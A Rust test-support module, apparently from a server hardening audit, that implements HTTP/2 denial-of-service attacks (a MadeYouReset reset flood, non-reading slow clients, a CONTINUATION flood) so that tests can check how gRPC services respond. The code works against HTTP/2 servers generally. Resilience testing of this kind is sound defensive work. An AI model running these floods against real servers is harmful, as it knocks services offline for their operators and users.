//! The hostile client's moves, built on [`h2raw`](crate::h2raw): what the
//! audit's attacks write, shared by the tests that check one attack at a
//! time (`tests/tests/hardening_h2.rs`, `hardening.rs`) and the test that
//! runs them against a well-behaved client's load (`abuse.rs`).
//!
//! Blocking, like `h2raw`: run them on threads of their own (or
//! `spawn_blocking`), never on a runtime thread that serves the services.

use std::{
    collections::BTreeMap,
    net::SocketAddr,
    time::{Duration, Instant},
};

use crate::h2raw::{self, Conn, DEFAULT_MAX_FRAME_SIZE, Frame, GoAway, ReadError, code, kind};

/// The gRPC health check's path: a call every port serves.
pub const HEALTH_CHECK: &str = "/grpc.health.v1.Health/Check";

/// A raw connection past the HTTP/2 handshake.
///
/// # Panics
/// If the connection or the handshake fails within 5 s each.
#[must_use]
pub fn connect(addr: SocketAddr) -> Conn {
    try_connect(addr).unwrap_or_else(|e| panic!("connect and HTTP/2 handshake: {e}"))
}

/// [`connect`], for a service that may be down.
///
/// # Errors
/// If the connection or the handshake fails within 5 s each.
pub fn try_connect(addr: SocketAddr) -> Result<Conn, ReadError> {
    let mut conn = Conn::connect(addr, Duration::from_secs(5)).map_err(ReadError::Io)?;
    conn.handshake(Duration::from_secs(5))?;
    Ok(conn)
}

/// The HEADERS (and CONTINUATIONs, if needed) opening a gRPC call to
/// `path` on `stream_id`, with `extra` metadata, the request body still to
/// come.
#[must_use]
pub fn call(conn: &Conn, stream_id: u32, path: &str, extra: &[(&str, &str)]) -> Vec<Frame> {
    let mut headers = h2raw::grpc_request_headers(&conn.peer().to_string(), path);
    headers.extend(
        extra
            .iter()
            .map(|(n, v)| ((*n).to_owned(), (*v).to_owned())),
    );
    h2raw::header_frames(
        stream_id,
        &h2raw::encode_headers(&headers),
        false,
        DEFAULT_MAX_FRAME_SIZE,
    )
}

/// The server's last word on `stream_id`: a RST_STREAM, or HEADERS ending
/// the stream (trailers, or a trailers-only response).
pub fn ends(stream_id: u32) -> impl Fn(&Frame) -> bool {
    move |f| {
        f.stream_id == stream_id
            && (f.rst_code().is_some() || (f.kind == kind::HEADERS && f.is_end_stream()))
    }
}

/// How a stream is made to be reset by the server itself, after a valid
/// request opened it (CVE-2025-8671, "MadeYouReset"). Both are stream errors
/// that h2 0.4.20 counts toward `max_local_error_reset_streams`
/// (`Actions::reset_on_recv_stream_err` in `proto/streams/streams.rs`).
#[derive(Debug, Clone, Copy)]
pub enum Provocation {
    /// WINDOW_UPDATE 2^31 − 1 on the stream: its send window (65,535)
    /// overflows; RST_STREAM(FLOW_CONTROL_ERROR). (An increment of 0 is no
    /// use: h2 treats it as a connection error.)
    WindowOverflow,
    /// `content-length: 5`, then 6 bytes of DATA; RST_STREAM(PROTOCOL_ERROR).
    ContentLengthOverrun,
}

impl Provocation {
    /// The frames that open `stream_id` with a health check and provoke
    /// its reset.
    #[must_use]
    pub fn frames(self, conn: &Conn, stream_id: u32) -> Vec<Frame> {
        match self {
            Self::WindowOverflow => {
                let mut frames = call(conn, stream_id, HEALTH_CHECK, &[]);
                frames.push(Frame::window_update(stream_id, 0x7fff_ffff));
                frames
            }
            Self::ContentLengthOverrun => {
                let mut frames = call(conn, stream_id, HEALTH_CHECK, &[("content-length", "5")]);
                let mut body = h2raw::grpc_message(&[]);
                body.push(0);
                frames.push(Frame::data(stream_id, body, false));
                frames
            }
        }
    }
}

/// What one connection of provoked resets saw.
#[derive(Debug, Default)]
pub struct ResetFlood {
    /// Streams opened.
    pub streams: usize,
    /// RST_STREAMs by error code.
    pub resets: BTreeMap<&'static str, usize>,
    /// RST_STREAMs before the GOAWAY (all of them if none came).
    pub resets_before_goaway: usize,
    /// The server's GOAWAY, if it sent one.
    pub goaway: Option<GoAway>,
    /// Whether the server closed the connection.
    pub closed: bool,
    /// From the connect to the end.
    pub took: Duration,
}

impl ResetFlood {
    /// RST_STREAMs received in all.
    #[must_use]
    pub fn resets(&self) -> usize {
        self.resets.values().sum()
    }

    fn see(&mut self, frame: &Frame) {
        if let Some(error) = frame.rst_code() {
            *self.resets.entry(code::name(error)).or_default() += 1;
            if self.goaway.is_none() {
                self.resets_before_goaway += 1;
            }
        } else if self.goaway.is_none() {
            self.goaway = frame.goaway();
        }
    }
}

/// Opens up to `streams` streams on one connection, each provoked into a
/// server reset, 50 at a time in lockstep (the next 50 once this 50's
/// resets are in, so little is in flight when the server gives up: a
/// server closing with unread input resets the TCP connection, which could
/// lose its GOAWAY); stops at a GOAWAY, a close, or 2 s of quiet.
///
/// # Panics
/// If the connection cannot be made, or a socket error other than a close.
#[must_use]
pub fn reset_flood(addr: SocketAddr, provocation: Provocation, streams: usize) -> ResetFlood {
    try_reset_flood(addr, provocation, streams).unwrap_or_else(|e| panic!("{provocation:?}: {e}"))
}

/// [`reset_flood`] against a service that may be down or restarting.
///
/// # Errors
/// If the connection or its handshake fails, or a socket error other than
/// a close.
pub fn try_reset_flood(
    addr: SocketAddr,
    provocation: Provocation,
    streams: usize,
) -> Result<ResetFlood, ReadError> {
    let started = Instant::now();
    let mut conn = try_connect(addr)?;
    let mut flood = ResetFlood::default();
    let mut next_id = 1;
    'flood: while flood.streams < streams {
        let mut frames = Vec::new();
        for _ in 0..50.min(streams - flood.streams) {
            frames.extend(provocation.frames(&conn, next_id));
            next_id += 2;
            flood.streams += 1;
        }
        // A failed write: the server closed; what it said is read below.
        let written = conn.send_all(&frames).is_ok();
        while flood.resets() < flood.streams || !written {
            match conn.read_frame(Duration::from_secs(2)) {
                Ok(frame) => flood.see(&frame),
                Err(ReadError::Closed) => {
                    flood.closed = true;
                    break 'flood;
                }
                Err(ReadError::TimedOut) => break 'flood,
                Err(e) => return Err(e),
            }
            if flood.goaway.is_some() {
                break 'flood;
            }
        }
    }
    if flood.goaway.is_some() && !flood.closed {
        match conn.wait_closed(Duration::from_secs(5)) {
            Ok(frames) => {
                frames.iter().for_each(|f| flood.see(f));
                flood.closed = true;
            }
            Err((_, frames)) => frames.iter().for_each(|f| flood.see(f)),
        }
    }
    flood.took = started.elapsed();
    Ok(flood)
}

/// Opens a raw HTTP/2 connection that calls `path` with the gRPC message
/// `request` (encoded protobuf) on stream 1 and never lets the answer
/// through (initial window 0, no WINDOW_UPDATE): a client that does not
/// read. Drop it to go away.
///
/// # Errors
/// If the connection or a write fails.
pub fn non_reading_call(addr: SocketAddr, path: &str, request: &[u8]) -> std::io::Result<Conn> {
    let mut conn = Conn::connect(addr, Duration::from_secs(5))?;
    non_reading_streams(&mut conn, path, &[request])?;
    Ok(conn)
}

/// On a new connection `conn` (nothing sent yet): the preface with an
/// initial stream window of 0, then one call to `path` per message of
/// `requests` (streams 1, 3, 5, ...), each a whole request; answers are
/// never let through. Many non-reading calls on one connection.
///
/// # Errors
/// If a write fails.
pub fn non_reading_streams(conn: &mut Conn, path: &str, requests: &[&[u8]]) -> std::io::Result<()> {
    conn.send_preface()?;
    conn.send(&Frame::settings(&[(
        h2raw::setting::INITIAL_WINDOW_SIZE,
        0,
    )]))?;
    let mut frames = Vec::new();
    for (i, request) in requests.iter().enumerate() {
        let stream_id = u32::try_from(2 * i + 1).expect("fewer than 2^30 streams");
        frames.extend(call(conn, stream_id, path, &[]));
        frames.push(Frame::data(stream_id, h2raw::grpc_message(request), true));
    }
    conn.send_all(&frames)
}

/// How a CONTINUATION flood went.
#[derive(Debug)]
pub struct ContinuationFlood {
    /// CONTINUATION frames written.
    pub sent: usize,
    /// The server's GOAWAY or RST_STREAM, if it sent one.
    pub refusal: Option<Frame>,
    /// Whether the server closed the connection (within 5 s of the end).
    pub closed: bool,
    /// Every frame the server sent.
    pub frames: Vec<Frame>,
}

/// HEADERS for a health check without END_HEADERS, then up to `max` small
/// CONTINUATION frames (100 at a time) that never end the header block,
/// until the server answers GOAWAY or closes; then waits up to 5 s for the
/// close.
///
/// # Panics
/// If the connection cannot be made.
#[must_use]
pub fn continuation_flood(addr: SocketAddr, max: usize) -> ContinuationFlood {
    try_continuation_flood(addr, max).unwrap_or_else(|e| panic!("CONTINUATION flood: {e}"))
}

/// [`continuation_flood`] against a service that may be down or
/// restarting.
///
/// # Errors
/// If the connection or its handshake fails.
pub fn try_continuation_flood(
    addr: SocketAddr,
    max: usize,
) -> Result<ContinuationFlood, ReadError> {
    let mut conn = try_connect(addr)?;
    let block = h2raw::encode_headers(&h2raw::grpc_request_headers(
        &addr.to_string(),
        HEALTH_CHECK,
    ));
    let mut seen = Vec::new();
    let mut sent = 0;
    let mut open = conn.send(&Frame::headers(1, block, false, false)).is_ok();
    let piece = h2raw::encode_headers(&[("x-flood", "a")]);
    while open && sent < max {
        let batch: Vec<Frame> = (0..100)
            .map(|_| Frame::continuation(1, piece.clone(), false))
            .collect();
        open = conn.send_all(&batch).is_ok();
        sent += 100;
        match conn.read_available() {
            Ok(frames) => seen.extend(frames),
            Err(_) => open = false,
        }
        open &= !seen.iter().any(|f| f.kind == kind::GOAWAY);
    }
    let closed = match conn.wait_closed(Duration::from_secs(5)) {
        Ok(frames) => {
            seen.extend(frames);
            true
        }
        Err((_, frames)) => {
            seen.extend(frames);
            false
        }
    };
    let refusal = seen
        .iter()
        .find(|f| f.kind == kind::GOAWAY || f.kind == kind::RST_STREAM)
        .cloned();
    Ok(ContinuationFlood {
        sent,
        refusal,
        closed,
        frames: seen,
    })
}
